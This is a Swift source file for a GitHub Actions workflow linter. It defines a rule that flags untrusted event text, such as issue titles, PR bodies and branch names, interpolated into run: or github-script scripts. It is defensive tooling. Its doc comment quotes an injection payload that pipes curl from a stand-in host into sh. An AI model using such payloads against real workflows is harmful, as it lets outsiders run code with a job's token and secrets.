import Diagnostics
import Workflows

/// Text an outsider controls (an issue or pull request title or body, a comment, a commit message, a branch name)
/// written with `${{ }}` into a `run:` script or an `actions/github-script` script: GitHub pastes it into the
/// code before the shell or Node reads it, so a title such as `"; curl evil | sh; "` runs.
public struct ScriptInjectionRule: LintRule {
    public static let id = "script-injection"
    public static let severity = Severity.error
    public static let rationale =
        "${{ }} is pasted into the script before it runs, so a crafted title, comment or branch name becomes code executed with the job's token and secrets."

    public init() {}

    public func check(_ workflow: Workflow, context: LintContext) -> [Diagnostic] {
        var findings: [Diagnostic] = []
        for job in workflow.jobs {
            for step in LintContext.flattened(job.steps) {
                let script: YAMLScalar?
                let language: String
                if let run = step.run {
                    (script, language) = (run, "the shell script")
                } else if let uses = step.uses, KnownActions.name(of: uses.text) == "actions/github-script" {
                    (script, language) = (step.with.first { $0.key.text == "script" }?.value.scalar, "the JavaScript")
                } else {
                    continue
                }
                guard let script else { continue }
                for reference in script.contextReferences() where Self.isUntrusted(reference) {
                    findings.append(
                        finding(
                            at: script.location(ofOffset: reference.offset),
                            "\"\(reference.path)\" can be set by whoever opens the issue, pull request, comment or branch, and is pasted into \(language) before it runs; pass it in \"env:\" and read the variable instead"
                        ))
                }
            }
        }
        return findings
    }

    /// Paths under `github.event` whose text an outsider chooses; `*` matches any one property or index.
    static let untrustedEventPaths: [[String]] = [
        "issue.title", "issue.body", "pull_request.title", "pull_request.body", "pull_request.head.ref",
        "pull_request.head.label", "pull_request.head.repo.default_branch", "comment.body", "review.body",
        "review_comment.body", "pages.*.page_name", "commits.*.message", "commits.*.author.email",
        "commits.*.author.name", "head_commit.message", "head_commit.author.email", "head_commit.author.name",
        "head_commit.committer.email", "head_commit.committer.name", "workflow_run.head_branch",
        "workflow_run.head_commit.message", "workflow_run.head_commit.author.email",
        "workflow_run.head_commit.author.name", "workflow_run.display_title", "workflow_run.pull_requests.*.head.ref",
        "discussion.title", "discussion.body", "merge_group.head_commit.message",
    ].map { $0.split(separator: ".").map(String.init) }

    /// `github.head_ref`, an untrusted `github.event` path, or an object that contains one (`toJSON(github.event)`).
    static func isUntrusted(_ reference: ContextReference) -> Bool {
        guard reference.context == "github", let first = reference.properties.first else { return false }
        if first == "head_ref" { return true }
        guard first == "event" else { return false }
        let rest = Array(reference.properties.dropFirst())
        return untrustedEventPaths.contains { pattern in
            // The reference reads the untrusted text itself, or an object that contains it.
            guard rest.count <= pattern.count else { return false }
            return zip(rest, pattern).allSatisfy { $1 == "*" || $0 == "*" || $0 == $1 }
        }
    }
}
